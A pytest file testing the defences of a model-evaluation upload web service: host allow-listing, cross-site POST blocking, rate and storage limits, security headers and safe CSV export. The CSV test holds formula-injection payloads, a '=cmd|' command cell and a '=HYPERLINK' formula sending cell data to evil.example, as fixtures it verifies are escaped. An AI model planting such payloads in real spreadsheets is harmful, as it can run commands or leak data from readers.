"""The upload service facing a network, attacked here: a foreign Host header, cross-site form posts, one client
uploading without end, a full queue, a full disk quota, a model too large to build, and the security headers
every response carries. Each refusal is one line with its status, before any of the upload is kept."""
from __future__ import annotations

import asyncio
import csv
import io
import json
import re
from html import unescape
from urllib.parse import quote

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select

from tests.webapp.helpers import assert_refused, make_settings, stored_files
from webapp.app import create_app
from webapp.security import FORGET_CLIENTS_PAST, RATE_WINDOW_SECONDS, SecurityMiddleware, UploadRate, host_name
from webapp.tables import Evaluation, StoredFile


def _client(tmp_path, eval_data, **overrides) -> TestClient:
    return TestClient(create_app(make_settings(tmp_path, eval_data, **overrides)), raise_server_exceptions=False)


def _upload(client, artifact: bytes, stride: int = 16, headers: dict | None = None):
    files = {"artifact": ("a.ptz", artifact), "config": ("c.json", json.dumps({"eval_stride": stride}).encode())}
    return client.post("/api/evaluations", files=files, headers=headers or {})


@pytest.mark.parametrize("host, status", [
    ("evil.example", 400), ("evil.example:8000", 400), ("127.0.0.1.evil.example", 400), ("", 400),
    ("127.0.0.1", 200), ("127.0.0.1:8000", 200), ("localhost:8000", 200), ("[::1]:8000", 200),
])
def test_only_the_bound_address_and_localhost_are_served_by_default(tmp_path, eval_data, host, status):
    client = _client(tmp_path, eval_data, allowed_hosts=[])
    response = client.get("/api/evaluations", headers={"host": host})
    assert response.status_code == status, response.text
    if status == 400:
        assert "this server does not answer to the host" in response.json()["detail"]


def test_a_named_host_list_replaces_the_default(tmp_path, eval_data):
    client = _client(tmp_path, eval_data, allowed_hosts=["golf.example.org"])
    assert client.get("/api/evaluations", headers={"host": "golf.example.org"}).status_code == 200
    assert client.get("/api/evaluations", headers={"host": "localhost"}).status_code == 400
    assert host_name("[::1]:80") == "::1" and host_name("Golf.Example.org:443") == "golf.example.org"


def _asgi_post(app, headers: list[tuple[bytes, bytes]]) -> tuple[int, bool]:
    """(status, whether the app read any of the body) of a POST /evaluations sent straight to the ASGI app."""
    read, sent = [], []

    async def receive():
        read.append(True)
        return {"type": "http.request", "body": b"--x--\r\n", "more_body": False}

    async def send(message):
        sent.append(message)

    scope = {"type": "http", "method": "POST", "path": "/evaluations", "raw_path": b"/evaluations", "query_string": b"",
             "headers": [(b"host", b"127.0.0.1:8000"), (b"content-type", b"multipart/form-data; boundary=x"),
                         *headers], "client": ("127.0.0.1", 5000), "server": ("127.0.0.1", 8000), "scheme": "http",
             "http_version": "1.1", "root_path": "", "app": app}
    asyncio.run(app(scope, receive, send))
    return sent[0]["status"], bool(read)


@pytest.mark.parametrize("headers", [
    [(b"origin", b"http://evil.example")], [(b"origin", b"null")], [(b"origin", b"http://127.0.0.1:8001")],
    [(b"referer", b"http://evil.example/page.html")],
    [(b"origin", b"http://evil.example"), (b"referer", b"http://127.0.0.1:8000/evaluations")],
])
def test_a_cross_site_post_is_403_before_its_body_is_read(tmp_path, eval_data, headers):
    app = create_app(make_settings(tmp_path, eval_data, allowed_hosts=[]))
    assert _asgi_post(app, headers) == (403, False)
    assert stored_files(app.state.settings) == []


@pytest.mark.parametrize("headers", [[(b"origin", b"http://127.0.0.1:8000")],
                                     [(b"referer", b"http://127.0.0.1:8000/evaluations")], []])
def test_a_same_site_post_or_one_without_origin_reaches_the_upload(tmp_path, eval_data, headers):
    app = create_app(make_settings(tmp_path, eval_data, allowed_hosts=[]))
    status, read = _asgi_post(app, headers)
    assert read and status == 400  # the malformed body is the upload reader's to refuse


def test_every_response_carries_the_security_headers(client):
    for path in ("/evaluations", "/api/evaluations", "/nosuch", "/static/style.css"):
        response = client.get(path, headers={"accept": "text/html"})
        assert response.headers["x-frame-options"] == "DENY", path
        assert response.headers["x-content-type-options"] == "nosniff"
        assert "frame-ancestors 'none'" in response.headers["content-security-policy"]
        assert "script-src 'self';" in response.headers["content-security-policy"]
    refused = client.get("/api/evaluations", headers={"host": "evil.example"})
    assert refused.headers["x-frame-options"] == "DENY"


def test_one_client_gets_a_bounded_number_of_uploads(tmp_path, eval_data, tiny_artifact):
    client = _client(tmp_path, eval_data, uploads_per_client_per_hour=2)
    data = tiny_artifact.read_bytes()
    assert [_upload(client, data, stride).status_code for stride in (8, 16)] == [202, 202]
    refused = _upload(client, data, 4)
    wait = int(refused.headers["retry-after"])
    assert refused.status_code == 429 and 0 < wait <= RATE_WINDOW_SECONDS
    assert refused.json()["detail"] == ("too many uploads from testclient: at most 2 an hour "
                                        f"(PGOLF_UPLOADS_PER_CLIENT_PER_HOUR); the next in {wait} s")
    rate = UploadRate(1)
    assert rate.wait("a", now=0.0) == 0 and rate.wait("a", now=10.0) == RATE_WINDOW_SECONDS - 10
    assert rate.wait("b", now=10.0) == 0
    assert rate.wait("a", now=RATE_WINDOW_SECONDS + 0.5) == 0  # the window rolls
    for n in range(FORGET_CLIENTS_PAST + 5):  # one upload each from many addresses, an hour ago
        rate.wait(f"10.0.{n}", now=0.0)
    rate.wait("late", now=2 * RATE_WINDOW_SECONDS)
    assert len(rate._starts) <= 2  # those idle for a whole window are forgotten


def test_a_full_queue_refuses_new_jobs_with_429(tmp_path, eval_data, tiny_artifact):
    client = _client(tmp_path, eval_data, max_queued_jobs=1)
    data = tiny_artifact.read_bytes()
    assert _upload(client, data, 8).status_code == 202
    refused = _upload(client, data, 16)
    assert refused.status_code == 429 and "1 evaluations are waiting already" in refused.json()["detail"]
    assert _upload(client, data, 8).status_code == 200  # the queued job itself is still found
    with client.app.state.sessions() as session:
        assert session.scalar(select(func.count()).select_from(Evaluation)) == 1


def test_the_storage_quota_refuses_with_507_and_a_stored_file_costs_nothing_again(tmp_path, eval_data, tiny_artifact):
    data = tiny_artifact.read_bytes()
    config = len(json.dumps({"eval_stride": 16}).encode())
    client = _client(tmp_path, eval_data, storage_quota_bytes=len(data) + 2 * config)
    assert _upload(client, data, 16).status_code == 202
    assert _upload(client, data, 32).status_code == 202  # only its config (as long as the first one's) is new
    refused = _upload(client, data + b"\0", 64)
    assert refused.status_code == 507 and "quota (PGOLF_STORAGE_QUOTA_BYTES)" in refused.json()["detail"]
    with client.app.state.sessions() as session:
        assert session.scalar(select(func.count()).select_from(StoredFile)) == 3  # the artifact once, two configs
    kept = sum(p.stat().st_size for p in (tmp_path / "web" / "blobs").rglob("*") if p.is_file())
    assert kept == len(data) + 2 * config  # stored once: no copy in the database, nothing left in incoming/


def test_a_model_past_the_parameter_cap_is_refused_on_upload(tmp_path, eval_data, tiny_artifact):
    client = _client(tmp_path, eval_data, max_params=1000)
    response = _upload(client, tiny_artifact.read_bytes())
    assert_refused(client, client.app.state.settings, response, 422, "parameters, more than the 1,000 allowed")


def test_the_middleware_reads_its_limits_from_the_settings(tmp_path, eval_data):
    settings = make_settings(tmp_path, eval_data, host="0.0.0.0", allowed_hosts=[], uploads_per_client_per_hour=0)
    middleware = SecurityMiddleware(None, settings)
    assert middleware.hosts == {"0.0.0.0", "127.0.0.1", "localhost", "::1"}
    assert not any(middleware.rate.wait("a") for _ in range(1000))  # 0 = unlimited


def test_the_records_csv_has_no_formula_cells(tmp_path, eval_data):
    track = tmp_path / "records" / "track_10min_16mb"
    names = ["=cmd|'!A0 +SUM(1)", "+1+2", "-2+3", "@SUM(1)", "\tx", "plain"]
    for n, folder in enumerate(names):
        (track / folder).mkdir(parents=True)
        (track / folder / "README.md").write_text("# a record\n")
        (track / folder / "submission.json").write_text(json.dumps({
            "name": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "author": ["@evil", "-x", "+y"][n % 3],
            "val_bpb": 1.2}))
    client = _client(tmp_path, eval_data, records=[tmp_path / "records"])
    response = client.get("/records.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text)))
    assert len(rows) == 1 + len(names)
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")" in cells and "'=cmd|'!A0 +SUM(1)" in cells
    assert "plain" in cells and "1.20000000" in cells  # numbers and plain text as they were


def test_record_ids_are_url_encoded_in_every_link(tmp_path, eval_data):
    track = tmp_path / "records" / "track_10min_16mb"
    odd = ["2026-01-01_a#b", "2026-01-02_what?x=1", "2026-01-03_100%", "2026-01-04_new\nline", "2026-01-05_sp ace"]
    for folder in odd:
        (track / folder).mkdir(parents=True)
        (track / folder / "README.md").write_text("# a record\n")
        (track / folder / "train_seed1.log").write_text("step:1/10 val_loss:2.0 val_bpb:1.5\n")
    client = _client(tmp_path, eval_data, records=[tmp_path / "records"])
    pages = ["/records", "/leaderboard", *(f"/records/{quote(folder, safe='')}" for folder in odd)]
    links = set()
    for page in pages:
        response = client.get(page, headers={"accept": "text/html"})
        assert response.status_code == 200, page
        links |= {unescape(href) for href in re.findall(r'href="(/(?:api/)?records/[^"]*)"', response.text)}
    for folder in odd:
        assert f"/records/{quote(folder, safe='')}" in links
    for link in links:
        assert client.get(link.split("#")[0], headers={"accept": "text/html"}).status_code == 200, link


def test_pages_and_the_api_show_no_server_paths(tmp_path, eval_data):
    root = tmp_path / "deep" / "server" / "records"
    folder = root / "track_10min_16mb" / "2026-01-01_rec"
    folder.mkdir(parents=True)
    (folder / "README.md").write_text("# a record\n")
    (folder / "train_seed1.log").write_text("step:1/10 val_loss:2.0 val_bpb:1.5\n")
    (root / "MANIFEST.json").write_text("{")  # a broken manifest: the warning names it
    (root / "track_10min_16mb" / "stray").mkdir()
    (root / "track_10min_16mb" / "stray" / "notes.txt").write_text("not a record\n")
    client = _client(tmp_path, eval_data, records=[root])
    detail = client.get("/api/records/2026-01-01_rec").json()
    assert detail["path"] == "records/track_10min_16mb/2026-01-01_rec"
    assert client.get("/api/records").json()["roots"] == ["records"]
    for url in ("/records", "/api/records", "/records/2026-01-01_rec", "/api/records/2026-01-01_rec",
                "/records.csv", "/leaderboard"):
        text = client.get(url, headers={"accept": "text/html"}).text
        assert str(tmp_path) not in text, url


def test_the_servers_parameter_cap_is_the_evaluators():
    from crawler.ptz import DEFAULT_MAX_PARAMS
    from webapp.settings import Settings

    assert Settings.model_fields["max_params"].default == DEFAULT_MAX_PARAMS


def test_a_file_missing_from_the_only_copy_is_named_not_mistaken_for_a_corrupt_one(tmp_path):
    from webapp.blobs import BlobStore

    with pytest.raises(ValueError, match="stored file aaaaaaaaaaaa: not in this machine's data dir"):
        BlobStore(tmp_path).local_copy("a" * 64, lambda: b"")
